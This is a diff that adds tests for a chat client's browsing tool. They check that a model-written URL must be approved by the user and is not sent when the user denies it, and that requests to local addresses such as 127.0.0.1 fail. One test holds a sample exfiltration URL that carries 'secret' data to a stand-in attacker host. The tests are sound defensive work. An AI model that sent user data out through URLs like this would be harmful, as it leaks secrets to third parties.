@@ -55,6 +55,46 @@ describe("a chat with the local service, nothing set up", () => {
 	});
 });
 
+describe("T36: Browsing with the local service", () => {
+	before(() => configure({ "chat.serverTools": ["browsing"] }));
+	after(() => configure({ "chat.serverTools": undefined }));
+
+	it("asks about an address that a model wrote, with all of it, and sends nothing when denied", async () => {
+		const controller = await chat();
+		await controller.newChat();
+		const url = `https://attacker.invalid/collect?d=${"secret".repeat(50)}`;
+		const id = await controller.send(`/call browsing {"url":"${url}"}`);
+		const approval = () =>
+			controller
+				.picture()
+				.turns.find(turn => turn.id === id)
+				?.tools?.at(-1)?.approval;
+		await until(() => approval() !== undefined, "the question");
+		const { requestId = "", address, canRemember } = approval() ?? {};
+		assert.equal(`${address?.before}${address?.host}${address?.after}`, url);
+		assert.equal(canRemember, false);
+		controller.answerTool({ requestId, decision: "deny", scope: "once", reason: "", hunks: [] });
+		const { tools } = await turnEnded(controller, id);
+		assert.deepEqual(
+			tools?.map(({ state }) => state),
+			["denied"],
+		);
+	});
+
+	it("asks a typed address at once, and none of this machine", async () => {
+		const controller = await chat();
+		await controller.newChat();
+		controller.noteTyped(["https://127.0.0.1/page"]);
+		const id = await controller.send("What does https://127.0.0.1/page say?");
+		const turn = await turnEnded(controller, id);
+		assert.match(turn.messages.at(-1)?.text ?? "", /this machine or its network/);
+		assert.deepEqual(
+			turn.tools?.map(({ state, line }) => [state, line]),
+			[["failed", "Read https://127.0.0.1/page"]],
+		);
+	});
+});
+
 describe("a chat with a remote service", () => {
 	let service: ScriptedService | undefined;
 
